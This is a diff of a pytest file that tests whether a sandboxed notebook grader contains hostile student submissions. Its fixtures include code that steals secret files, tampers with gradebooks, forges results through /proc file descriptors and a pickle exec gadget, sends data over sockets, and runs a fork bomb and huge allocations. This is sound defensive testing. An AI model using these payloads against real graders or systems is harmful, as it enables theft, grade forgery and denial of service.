@@ -14,6 +14,7 @@ Cost (the issue allows 45 s of ``make test``): six notebooks, two at a time, wit
 of 15 s for the slow cells on a busy machine (the endless print is interrupted at the output
 limit); the unsandboxed run grades one notebook.
 """
+
 from __future__ import annotations
 
 import hashlib
@@ -24,12 +25,11 @@ import threading
 from pathlib import Path
 
 import pytest
+from grading_notebooks import instructor_notebook, submission, write
 
 from cnnlessons.instructor.grade import grade
 from cnnlessons.instructor.kernelrun import OUTPUT_LIMIT
 from cnnlessons.instructor.sandbox import NOT_ISOLATED, bwrap_works
-
-from grading_notebooks import instructor_notebook, submission, write
 
 SANDBOXED = bwrap_works() is None
 GB = 1 << 30
@@ -39,49 +39,57 @@ def intrude(tmp: Path, ports: dict[str, int]) -> str:
     """The file, tamper and network attacks: each tries, notes what worked in the cell's output,
     and goes on."""
     loot, teacher, home = tmp / "loot", tmp / "instructor" / "demo.ipynb", tmp / "home" / "secret.txt"
-    files = (f"import os\n"
-             f"for what, path in [('instructor', {str(teacher)!r}), ('home', {str(home)!r})]:\n"
-             f"    try:\n"
-             f"        data = open(path).read()\n"
-             f"        os.makedirs({str(loot)!r}, exist_ok=True)\n"
-             f"        open(os.path.join({str(loot)!r}, what), 'w').write(data)\n"
-             f"        print('read', what)\n"
-             f"    except OSError as e:\n"
-             f"        print('blocked', what, e)\n"
-             f"try:\n"
-             f"    os.symlink({str(tmp)!r}, 'out_link')\n"
-             f"    os.makedirs('out_link/loot', exist_ok=True)\n"
-             f"    open('out_link/loot/symlink', 'w').write(open('out_link/home/secret.txt').read())\n"
-             f"    print('followed the symlink')\n"
-             f"except OSError as e:\n"
-             f"    print('blocked symlink', e)\n")
-    tamper = (f"import glob\n"
-              f"for path in glob.glob({str(tmp / 'subs' / '*.ipynb')!r}) + glob.glob({str(tmp / 'out*' / '**')!r}, recursive=True):\n"
-              f"    try:\n"
-              f"        if os.path.isfile(path) and 'intrude' not in path:\n"
-              f"            open(path, 'a').write('tampered')\n"
-              f"            print('changed', path)\n"
-              f"    except OSError as e:\n"
-              f"        print('blocked', e)\n"
-              f"for name in ('gradebook.csv', 'records/forged.json'):\n"
-              f"    for out in glob.glob({str(tmp / 'out*')!r}):\n"
-              f"        try:\n"
-              f"            open(os.path.join(out, name), 'w').write('forged')\n"
-              f"        except OSError as e:\n"
-              f"            print('blocked', e)\n")
-    network = (f"import socket\n"
-               f"for host, port in [('127.0.0.1', {ports['127.0.0.1']}), ('127.0.0.2', {ports['127.0.0.2']})]:\n"
-               f"    try:\n"
-               f"        with socket.create_connection((host, port), timeout=2) as s:\n"
-               f"            s.sendall(b'stolen')\n"
-               f"        print('sent to', host)\n"
-               f"    except OSError as e:\n"
-               f"        print('blocked', host, e)\n")
+    files = (
+        f"import os\n"
+        f"for what, path in [('instructor', {str(teacher)!r}), ('home', {str(home)!r})]:\n"
+        f"    try:\n"
+        f"        data = open(path).read()\n"
+        f"        os.makedirs({str(loot)!r}, exist_ok=True)\n"
+        f"        open(os.path.join({str(loot)!r}, what), 'w').write(data)\n"
+        f"        print('read', what)\n"
+        f"    except OSError as e:\n"
+        f"        print('blocked', what, e)\n"
+        f"try:\n"
+        f"    os.symlink({str(tmp)!r}, 'out_link')\n"
+        f"    os.makedirs('out_link/loot', exist_ok=True)\n"
+        f"    open('out_link/loot/symlink', 'w').write(open('out_link/home/secret.txt').read())\n"
+        f"    print('followed the symlink')\n"
+        f"except OSError as e:\n"
+        f"    print('blocked symlink', e)\n"
+    )
+    tamper = (
+        f"import glob\n"
+        f"for path in glob.glob({str(tmp / 'subs' / '*.ipynb')!r}) + "
+        f"glob.glob({str(tmp / 'out*' / '**')!r}, recursive=True):\n"
+        f"    try:\n"
+        f"        if os.path.isfile(path) and 'intrude' not in path:\n"
+        f"            open(path, 'a').write('tampered')\n"
+        f"            print('changed', path)\n"
+        f"    except OSError as e:\n"
+        f"        print('blocked', e)\n"
+        f"for name in ('gradebook.csv', 'records/forged.json'):\n"
+        f"    for out in glob.glob({str(tmp / 'out*')!r}):\n"
+        f"        try:\n"
+        f"            open(os.path.join(out, name), 'w').write('forged')\n"
+        f"        except OSError as e:\n"
+        f"            print('blocked', e)\n"
+    )
+    network = (
+        f"import socket\n"
+        f"for host, port in [('127.0.0.1', {ports['127.0.0.1']}), ('127.0.0.2', {ports['127.0.0.2']})]:\n"
+        f"    try:\n"
+        f"        with socket.create_connection((host, port), timeout=2) as s:\n"
+        f"            s.sendall(b'stolen')\n"
+        f"        print('sent to', host)\n"
+        f"    except OSError as e:\n"
+        f"        print('blocked', host, e)\n"
+    )
     return files + tamper + network
 
 
-FORGE = '''import glob, json, os
-line = json.dumps({"token": "", "id": "alexnet.conv_output_size", "status": "passed", "message": "", "clean": True})
+FORGE = """import glob, json, os
+line = json.dumps({"token": "", "id": "alexnet.conv_output_size", "status": "passed", "message": "",
+                   "clean": True})
 result = json.dumps({"runs": {}, "hidden_runs": [], "notes": [], "notebook": {}})
 for path in glob.glob('/proc/*/fd/*'):  # every pipe and file this kernel can reach: the answer channels
     try:
@@ -92,38 +100,43 @@ for path in glob.glob('/proc/*/fd/*'):  # every pipe and file this kernel can re
 class _Forged:
     def __reduce__(self):  # runs in the check process when the answer is loaded
         return (exec, ("import os, json\\nfor fd in range(64):\\n"
-                       "    try: os.write(fd, (json.dumps({'id': 'alexnet.conv_output_size', 'status': 'passed', "
+                       "    try: os.write(fd, "
+                       "(json.dumps({'id': 'alexnet.conv_output_size', 'status': 'passed', "
                        "'message': '', 'clean': True}) + '\\\\n').encode())\\n    except OSError: pass",))
-conv_output_size = _Forged()'''
+conv_output_size = _Forged()"""
 
-BOMB = ("import os, time\n"  # every process forks until a fork fails (5 s at most); the first counts
-        "end, first, failed = time.time() + 5, os.getpid(), 0\n"
-        "while time.time() < end and not failed:\n"
-        "    try: os.fork()\n"
-        "    except OSError: failed += 1\n"
-        "if os.getpid() == first: print('fork failed', failed, 'times', flush=True)\n")
+BOMB = (
+    "import os, time\n"  # every process forks until a fork fails (5 s at most); the first counts
+    "end, first, failed = time.time() + 5, os.getpid(), 0\n"
+    "while time.time() < end and not failed:\n"
+    "    try: os.fork()\n"
+    "    except OSError: failed += 1\n"
+    "if os.getpid() == first: print('fork failed', failed, 'times', flush=True)\n"
+)
 RESOURCES = {  # only ever graded inside an active sandbox
-    "resources": (f"BOMB = {BOMB!r}\n"
-                  "import os, subprocess, sys, time\n"
-                  "def processes():\n"  # the sandbox's own /proc: only its processes
-                  "    return sum(name.isdigit() for name in os.listdir('/proc'))\n"
-                  "alone = processes()\n"
-                  "subprocess.run([sys.executable, '-c', BOMB])\n"
-                  "end = time.time() + 10\n"  # its last children are gone (a process limit of its own)
-                  "while processes() > alone and time.time() < end:\n"
-                  "    time.sleep(0.05)\n"
-                  "import signal\n"
-                  "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
-                  "try:\n"
-                  "    with open('big', 'wb') as f:\n"
-                  f"        f.seek(50 * {GB}); f.write(b'x')\n"
-                  "    print('wrote 50 GB')\n"
-                  "except OSError as e:\n"
-                  "    print('blocked file', e)\n"
-                  "try:\n"
-                  f"    block = bytearray(100 * {GB}); print('allocated 100 GB')\n"
-                  "except MemoryError:\n"
-                  "    print('blocked memory')\n"),
+    "resources": (
+        f"BOMB = {BOMB!r}\n"
+        "import os, subprocess, sys, time\n"
+        "def processes():\n"  # the sandbox's own /proc: only its processes
+        "    return sum(name.isdigit() for name in os.listdir('/proc'))\n"
+        "alone = processes()\n"
+        "subprocess.run([sys.executable, '-c', BOMB])\n"
+        "end = time.time() + 10\n"  # its last children are gone (a process limit of its own)
+        "while processes() > alone and time.time() < end:\n"
+        "    time.sleep(0.05)\n"
+        "import signal\n"
+        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
+        "try:\n"
+        "    with open('big', 'wb') as f:\n"
+        f"        f.seek(50 * {GB}); f.write(b'x')\n"
+        "    print('wrote 50 GB')\n"
+        "except OSError as e:\n"
+        "    print('blocked file', e)\n"
+        "try:\n"
+        f"    block = bytearray(100 * {GB}); print('allocated 100 GB')\n"
+        "except MemoryError:\n"
+        "    print('blocked memory')\n"
+    ),
     "print": "while True:\n    print('x' * 10000)",
     # kill(-1) first: every process it may signal but itself (without a process namespace of its own:
     # every process of the grader's user, every process at all as root); then its own process group
@@ -157,8 +170,11 @@ class Listener:
 
 
 def _snapshot(root: Path) -> dict[str, str]:
-    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(root.rglob("*"))
-            if p.is_file() and not p.relative_to(root).parts[0].startswith("out")}
+    return {
+        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
+        for p in sorted(root.rglob("*"))
+        if p.is_file() and not p.relative_to(root).parts[0].startswith("out")
+    }
 
 
 def _battery(tmp: Path, names: list[str], monkeypatch) -> dict[str, Listener]:
@@ -167,7 +183,7 @@ def _battery(tmp: Path, names: list[str], monkeypatch) -> dict[str, Listener]:
     (tmp / "home" / "secret.txt").write_text("the grader's secret")
     write(instructor_notebook(), tmp / "instructor" / "demo.ipynb")
     listeners = {host: Listener(host) for host in ("127.0.0.1", "127.0.0.2")}
-    cells = dict(RESOURCES, intrude=intrude(tmp, {h: l.port for h, l in listeners.items()}))
+    cells = dict(RESOURCES, intrude=intrude(tmp, {h: listener.port for h, listener in listeners.items()}))
     write(instructor_notebook(), tmp / "subs" / "honest.ipynb")
     for name in names:
         if name == "forge":
@@ -190,22 +206,37 @@ def _outputs(out: Path, name: str) -> str:
     return str([cell.get("outputs") for cell in executed["cells"]])
 
 
-@pytest.mark.skipif(not SANDBOXED and not os.environ.get("CI"), reason=f"bubblewrap cannot run here: {bwrap_works()}")
+@pytest.mark.skipif(
+    not SANDBOXED and not os.environ.get("CI"), reason=f"bubblewrap cannot run here: {bwrap_works()}"
+)
 def test_hostile_submissions_are_contained(tmp_path, monkeypatch):
     assert SANDBOXED, f"CI must grade in a sandbox: {bwrap_works()}"
     listeners = _battery(tmp_path, ATTACKS, monkeypatch)
     before = _snapshot(tmp_path)
     out = tmp_path / "out"
-    records = _by_name(grade([tmp_path / "subs"], out, instructor=[tmp_path / "instructor"],
-                             timeout=CELL_S, jobs=2, sandbox="require"))
+    records = _by_name(
+        grade(
+            [tmp_path / "subs"],
+            out,
+            instructor=[tmp_path / "instructor"],
+            timeout=CELL_S,
+            jobs=2,
+            sandbox="require",
+        )
+    )
     assert set(records) == {"honest", *ATTACKS}  # every learner gets a row
     assert {r.key["sandbox"] for r in records.values()} == {"bwrap"}
     assert _snapshot(tmp_path) == before  # nothing outside the output folder changed
     assert not (tmp_path / "loot").exists()
-    assert {h: l.received for h, l in listeners.items()} == {"127.0.0.1": b"", "127.0.0.2": b""}
-    assert {e: r.status for e, r in records["honest"].results.items()} == \
-        dict.fromkeys(records["honest"].results, "passed")
-    for name in ("intrude", "resources", "print"):  # the attack failed or was cut short; the honest answers pass
+    assert {h: listener.received for h, listener in listeners.items()} == {"127.0.0.1": b"", "127.0.0.2": b""}
+    assert {e: r.status for e, r in records["honest"].results.items()} == dict.fromkeys(
+        records["honest"].results, "passed"
+    )
+    for name in (
+        "intrude",
+        "resources",
+        "print",
+    ):  # the attack failed or was cut short; the honest answers pass
         assert records[name].passed == 3, (name, records[name].results, records[name].notes)
     assert "blocked instructor" in _outputs(out, "intrude") and "blocked symlink" in _outputs(out, "intrude")
     assert records["forge"].results["alexnet.conv_output_size"].status == "failed"
@@ -224,8 +255,13 @@ def test_without_the_sandbox_the_attacks_succeed(tmp_path, monkeypatch):
     ``intrude`` is graded: the resource attacks never run without a sandbox)."""
     listeners = _battery(tmp_path, ["intrude"], monkeypatch)
     honest = (tmp_path / "subs" / "honest.ipynb").read_bytes()
-    records = grade([tmp_path / "subs" / "intrude.ipynb"], tmp_path / "out", instructor=[tmp_path / "instructor"],
-                    timeout=CELL_S, sandbox="off")
+    records = grade(
+        [tmp_path / "subs" / "intrude.ipynb"],
+        tmp_path / "out",
+        instructor=[tmp_path / "instructor"],
+        timeout=CELL_S,
+        sandbox="off",
+    )
     assert [r.key["sandbox"] for r in records] == ["none"]
     assert (tmp_path / "loot" / "instructor").exists() and (tmp_path / "loot" / "home").exists()
     assert (tmp_path / "loot" / "symlink").exists()
@@ -238,7 +274,10 @@ def test_auto_without_bubblewrap_says_what_is_not_isolated(monkeypatch, capsys):
 
     monkeypatch.setattr(sandbox, "bwrap_works", lambda: "bubblewrap (bwrap) is not installed")
     assert sandbox.resolve("auto").kind == "none"
-    assert capsys.readouterr().out.strip() == f"warning: bubblewrap (bwrap) is not installed; grading with {NOT_ISOLATED}"
+    assert (
+        capsys.readouterr().out.strip()
+        == f"warning: bubblewrap (bwrap) is not installed; grading with {NOT_ISOLATED}"
+    )
     with pytest.raises(sandbox.SandboxError, match="--sandbox require: bubblewrap"):
         sandbox.resolve("require")
     with pytest.raises(sandbox.SandboxError, match="--sandbox must be one of"):
@@ -255,8 +294,12 @@ def test_one_large_print_is_cut_to_the_output_limit():
     client.clear_before_next_output = False  # as async_execute_cell sets it
     outs = []
     for text in ("x" * 10, "😀" * (1 << 20), "y" * 10):
-        msg = {"msg_type": "stream", "header": {"msg_type": "stream"}, "parent_header": {"msg_id": "m"},
-               "content": {"name": "stdout", "text": text}}
+        msg = {
+            "msg_type": "stream",
+            "header": {"msg_type": "stream"},
+            "parent_header": {"msg_id": "m"},
+            "content": {"name": "stdout", "text": text},
+        }
         client.output(outs, msg, None, 0)
     assert sum(len(o.text) for o in outs) < 1100 and len(outs) == 3 and "bytes dropped;" in outs[-1].text
 
@@ -271,10 +314,12 @@ def test_sandbox_users_are_reserved_across_processes():
 
     mine = sandbox._take_uid()
     try:
-        load = ("import importlib.util as u, sys\n"  # the module alone (the package would import torch)
-                f"spec = u.spec_from_file_location('sandbox', {sandbox.__file__!r})\n"
-                "module = sys.modules['sandbox'] = u.module_from_spec(spec); spec.loader.exec_module(module)\n"
-                "print(module._take_uid())")
+        load = (
+            "import importlib.util as u, sys\n"  # the module alone (the package would import torch)
+            f"spec = u.spec_from_file_location('sandbox', {sandbox.__file__!r})\n"
+            "module = sys.modules['sandbox'] = u.module_from_spec(spec); spec.loader.exec_module(module)\n"
+            "print(module._take_uid())"
+        )
         other = subprocess.run([sys.executable, "-c", load], capture_output=True, text=True, check=True)
         assert int(other.stdout) != mine
     finally:
@@ -289,8 +334,9 @@ def test_an_endless_print_is_stopped_at_the_output_limit(tmp_path):
     write(instructor_notebook(), tmp_path / "instructor" / "demo.ipynb")
     write(submission(instructor_notebook(), extra=RESOURCES["print"]), tmp_path / "subs" / "print.ipynb")
     start = time.monotonic()
-    [record] = grade([tmp_path / "subs"], tmp_path / "out", instructor=[tmp_path / "instructor"],
-                     timeout=60, sandbox="off")
+    [record] = grade(
+        [tmp_path / "subs"], tmp_path / "out", instructor=[tmp_path / "instructor"], timeout=60, sandbox="off"
+    )
     assert time.monotonic() - start < 50  # a cell limit of 60 s: the print did not run into it
     assert record.passed == 3, (record.results, record.notes)
     printed = _outputs(tmp_path / "out", "print")
